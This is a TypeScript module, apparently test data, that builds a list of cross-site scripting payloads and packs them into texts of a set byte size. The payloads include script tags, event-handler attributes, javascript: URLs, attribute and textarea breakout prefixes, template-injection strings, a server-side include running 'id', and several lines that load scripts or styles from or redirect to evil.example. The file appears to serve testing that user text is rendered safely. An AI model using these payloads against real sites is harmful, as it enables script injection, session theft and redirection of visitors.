/** Calls that would tell: a dialog fails the story, and so does what it leaves behind on the window. */
const CALL = "alert(1)";

const ELEMENTS = [
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  "<script src=//evil.example/x.js></script>",
  `<script type=module>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<img/src=x/onerror=${CALL}>`,
  `<img src="x" onerror="${CALL}">`,
  "<img src=x onerror=&#97;lert(1)>",
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x>`,
  `<math><mtext></p><img src=x onerror=${CALL}>`,
  `<body onload=${CALL}>`,
  `<iframe src=javascript:${CALL}>`,
  `<iframe srcdoc="<script>${CALL}</script>">`,
  `<object data=javascript:${CALL}>`,
  `<embed src=javascript:${CALL}>`,
  `<a href=javascript:${CALL}>x</a>`,
  `<a href="java&#x09;script:${CALL}">x</a>`,
  `<form action=javascript:${CALL}><button>x`,
  `<button formaction=javascript:${CALL}>x`,
  `<details open ontoggle=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<video><source onerror=${CALL}>`,
  `<audio src onerror=${CALL}>`,
  `<marquee onstart=${CALL}>`,
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css'</style>",
  "<style>*{display:none}</style>",
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<xmp><img src=x onerror=${CALL}></xmp>`,
];

/** What would leave the place that a careless page puts a text into. */
const ENDS = [`">`, "</textarea>"];

const OTHERS = [
  `javascript:${CALL}`,
  "data:text/html,<script>alert(1)</script>",
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `';${CALL};//`,
  `");${CALL};//`,
  "</script><script>alert(1)</script>",
  `--><img src=x onerror=${CALL}>`,
  `]]><img src=x onerror=${CALL}>`,
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  `[x](javascript:${CALL})`,
  `![x](x" onerror="${CALL})`,
  "<!--#exec cmd='id'-->",
];

export const PAYLOADS: readonly string[] = [
  ...ELEMENTS,
  ...ENDS.flatMap((end) => ELEMENTS.map((element) => `${end}${element}`)),
  ...OTHERS,
];

/** The payloads in as few texts as hold them, each of at most this many bytes. */
export function payloadTexts(maxBytes: number): string[] {
  const texts: string[] = [];
  for (const payload of PAYLOADS) {
    const last = texts.at(-1);
    const longer = last === undefined ? payload : `${last} ${payload}`;
    if (last !== undefined && longer.length <= maxBytes) texts[texts.length - 1] = longer;
    else texts.push(payload);
  }
  return texts;
}
